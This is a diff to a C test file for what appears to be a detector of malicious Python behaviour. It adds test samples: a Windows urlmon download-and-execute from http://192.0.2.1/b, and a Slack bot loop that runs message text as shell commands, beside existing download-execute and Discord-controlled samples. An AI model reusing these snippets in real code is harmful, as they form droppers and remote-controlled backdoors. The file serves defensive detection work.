@@ -43,6 +43,10 @@ static void starts(void)
 	CHECK(shows("import urllib.request as u, os\n"
 		    "u.urlretrieve('http://192.0.2.1/a', p)\nos.system(p)",
 		    MPY_BEH_DOWNLOAD_START, 3));
+	CHECK(shows("from ctypes import windll\nu = windll.urlmon\n"
+		    "u.URLDownloadToFileW(0, 'http://192.0.2.1/b', p, 0, 0)\n"
+		    "windll.shell32.ShellExecuteW(0, 'open', p, 0, 0, 1)",
+		    MPY_BEH_DOWNLOAD_START, 4));
 	CHECK(shows("import requests, subprocess\n"
 		    "with open(p, 'wb') as f:\n"
 		    "  f.write(requests.get(u).content)\n"
@@ -482,6 +486,10 @@ static void but_seen(void)
 		    MPY_BEH_MADE_EXEC, 2));
 	CHECK(shows("import nextcord, os\nasync def on_message(msg):\n"
 		    "  os.popen(msg.content)", MPY_BEH_CHAT_CONTROL, 3));
+	CHECK(shows("import slack_sdk, subprocess\nc = slack_sdk.WebClient(t)\n"
+		    "for m in c.conversations_history(channel=h)['messages']:\n"
+		    "  subprocess.getoutput(m['text'])",
+		    MPY_BEH_CHAT_CONTROL, 4));
 }
 
 /* What programs are made to do by the tools and the texts that they are given. */
